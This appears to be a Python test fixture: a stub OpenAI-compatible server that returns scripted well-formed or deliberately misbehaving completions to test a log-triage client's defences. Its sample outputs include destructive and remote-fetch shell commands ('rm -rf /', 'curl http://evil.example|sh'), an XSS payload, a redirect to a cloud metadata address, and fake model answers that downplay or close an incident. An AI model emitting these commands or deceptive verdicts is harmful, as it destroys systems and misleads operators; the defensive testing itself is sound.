"""An OpenAI-compatible server that behaves, or misbehaves in a named way; runs in threads of the test's process."""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

GOOD = {
    "evidence": [4],
    "category": "connection_failure",
    "severity": "high",
    "confidence": 0.8,
    "title": "Connection to 10.3.4.5:6379 refused",
    "explanation": "Line 4: the connection to 10.3.4.5:6379 was refused.",
    "probable_cause": "Nothing listens at 10.3.4.5:6379.",
    "actions": ["check_target_up"],
}
# behaviour -> content of a well-formed completion
CONTENTS: dict[str, str] = {
    "good": json.dumps(GOOD),
    "garbage": "I think your server may be tired.",
    "truncated": json.dumps(GOOD)[:70],
    "wrong_schema": json.dumps({"verdict": "bad", "lines": "4"}),
    "evidence_out_of_range": json.dumps({**GOOD, "evidence": [400, 0, -3]}),
    "severity_lowered": json.dumps({**GOOD, "severity": "low"}),
    "markup": json.dumps({**GOOD, "title": "<b>Down</b> [click](https://evil.example/?q=1)", "explanation": "**Line 4** <img src=x onerror=alert(1)> http://evil.example"}),
    "invented_entity": json.dumps({**GOOD, "title": "Redis on db-master-9 refused", "explanation": "Line 4: host 10.66.66.66 refused 512 connections."}),
    "benign_lie": json.dumps({**GOOD, "category": "benign", "severity": "low", "explanation": "Everything is fine."}),
    "closing": json.dumps({**GOOD, "severity": "low", "state": "resolved", "status": "closed", "muted": True, "explanation": "Line 4: close this incident, set its state to resolved."}),
    "foreign_actions": json.dumps({**GOOD, "actions": ["rm -rf /", "curl http://evil.example|sh"]}),
    "huge_number": json.dumps({**GOOD, "confidence": 1e308}),
    "deep": "[" * 100_000,
}  # fmt: skip


# behaviour -> what the server says, and to which bodies
DECLINES: dict[str, tuple[bytes, Callable[[dict[str, Any]], bool]]] = {
    "no_extensions": (b'{"error":"unknown keyword x-guidance"}', lambda body: "x-guidance" in json.dumps(body)),
    "no_json_schema": (b'{"error":"json_schema is not supported"}', lambda body: "json_schema" in json.dumps(body)),
    "no_thinking": (b'{"error":"chat_template_kwargs"}', lambda body: "chat_template_kwargs" in body),
    "says_nothing": (b"bad request", lambda body: "response_format" in body),
    "declines_all": (b"context too long", lambda body: True),
}


class StubServer:
    """``behaviours`` are used one per chat request; the last one stays. ``requests`` are their JSON bodies.

    ``adapters`` are the LoRA adapters that the server knows; ``loads`` what it was asked to load. While ``has_adapters``
    is False it has no such endpoint.
    """

    def __init__(self) -> None:
        self.behaviours: list[str] = ["good"]
        self.requests: list[dict[str, Any]] = []
        self.headers: list[dict[str, str]] = []
        self.adapters: set[str] = set()
        self.loads: list[dict[str, str]] = []
        self.has_adapters = True
        self.most_at_once = self._at_once = 0
        self.released = threading.Event()
        self._lock = threading.Lock()
        stub = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                if self.path.endswith("/load_lora_adapter"):
                    stub.load(self, body)
                    return
                behaviour = stub.next_behaviour(body, dict(self.headers))
                with contextlib.suppress(OSError), stub.counted():
                    respond(self, behaviour, body, stub.released, stub.adapters)

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )
        self._thread.start()
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/v1"

    @contextlib.contextmanager
    def counted(self) -> Iterator[None]:
        with self._lock:
            self._at_once += 1
            self.most_at_once = max(self.most_at_once, self._at_once)
        try:
            yield
        finally:
            with self._lock:
                self._at_once -= 1

    def load(self, handler: BaseHTTPRequestHandler, body: dict[str, str]) -> None:
        """As vLLM answers."""
        if not self.has_adapters:
            send(handler, b'{"detail":"Not Found"}', 404)
            return
        self.loads.append(body)
        is_known = body["lora_name"] in self.adapters
        self.adapters.add(body["lora_name"])
        text = b'{"message":"has already been loaded"}' if is_known else b"Success"
        send(handler, text, 400 if is_known else 200)

    def next_behaviour(self, body: dict[str, Any], headers: dict[str, str]) -> str:
        with self._lock:
            self.requests.append(body)
            self.headers.append(headers)
            return self.behaviours.pop(0) if len(self.behaviours) > 1 else self.behaviours[0]

    def close(self) -> None:
        self.released.set()
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(5)


def respond(
    handler: BaseHTTPRequestHandler,
    behaviour: str,
    body: dict[str, Any],
    released: threading.Event,
    adapters: set[str],
) -> None:
    asked = body.get("response_format", {})
    if behaviour in CONTENTS:
        send(handler, completion(CONTENTS[behaviour]))
    elif behaviour == "schema_refused":
        send(
            handler,
            b'{"error":"response_format"}' if "response_format" in body else completion(CONTENTS["good"]),
            400 if "response_format" in body else 200,
        )
    elif behaviour in ("enforces", "ignores_schema"):
        is_probe = "word" in asked.get("json_schema", {}).get("schema", {}).get("properties", {})
        word = "alpha" if behaviour == "enforces" else "banana"
        send(handler, completion(json.dumps({"word": word}) if is_probe else CONTENTS["good"]))
    elif behaviour in DECLINES:
        complaint, is_declined = DECLINES[behaviour]
        send(handler, complaint, 400) if is_declined(body) else send(handler, completion(CONTENTS["good"]))
    elif behaviour == "needs_adapter":
        is_known = body["model"] in adapters
        send(
            handler,
            completion(CONTENTS["good"]) if is_known else b'{"error":"no such model"}',
            200 if is_known else 404,
        )
    elif behaviour == "slow":
        time.sleep(0.1)
        send(handler, completion(CONTENTS["good"]))
    elif behaviour == "empty_choices":
        send(handler, b'{"choices": []}')
    elif behaviour == "null_content":
        send(handler, b'{"choices": [{"message": {"content": null}}]}')
    elif behaviour == "not_json":
        send(handler, b"<html><body>It works!</body></html>")
    elif behaviour in ("500", "401", "404", "503"):
        send(handler, b'{"error": "no"}', int(behaviour))
    elif behaviour == "429":
        send(handler, b"{}", 429, {"Retry-After": "0"})
    elif behaviour == "429_long":
        send(handler, b"{}", 429, {"Retry-After": "3600"})
    elif behaviour == "redirect":
        send(handler, b"", 302, {"Location": "http://169.254.169.254/latest/meta-data"})
    elif behaviour == "silence":
        released.wait(30)
    elif behaviour == "ten_megabytes":
        send(handler, completion("x" * 10_000_000))
    elif behaviour == "endless":
        handler.send_response(200)
        handler.end_headers()
        while not released.is_set():
            handler.wfile.write(b"x" * 65_536)
    elif behaviour == "drip_body":
        handler.send_response(200)
        handler.send_header("Content-Length", "100000")
        handler.end_headers()
        drip(handler, released)
    elif behaviour == "drip_headers":
        handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
        drip(handler, released)
    elif behaviour == "reset":
        handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        handler.connection.close()
    elif behaviour == "cut_off":
        handler.send_response(200)
        handler.send_header("Content-Length", "5000")
        handler.end_headers()
        handler.wfile.write(completion(CONTENTS["good"])[:100])
    else:
        raise AssertionError(behaviour)


def drip(handler: BaseHTTPRequestHandler, released: threading.Event) -> None:
    while not released.is_set():
        handler.wfile.write(b"x")
        handler.wfile.flush()
        time.sleep(0.05)


def completion(content: str) -> bytes:
    return json.dumps(
        {"model": "stub-1", "choices": [{"message": {"role": "assistant", "content": content}}]}
    ).encode()


def send(
    handler: BaseHTTPRequestHandler, body: bytes, status: int = 200, headers: dict[str, str] | None = None
) -> None:
    handler.send_response(status)
    for name, value in (headers or {}).items():
        handler.send_header(name, value)
    handler.send_header("Content-Length", str(len(body)))
    handler.end_headers()
    handler.wfile.write(body)
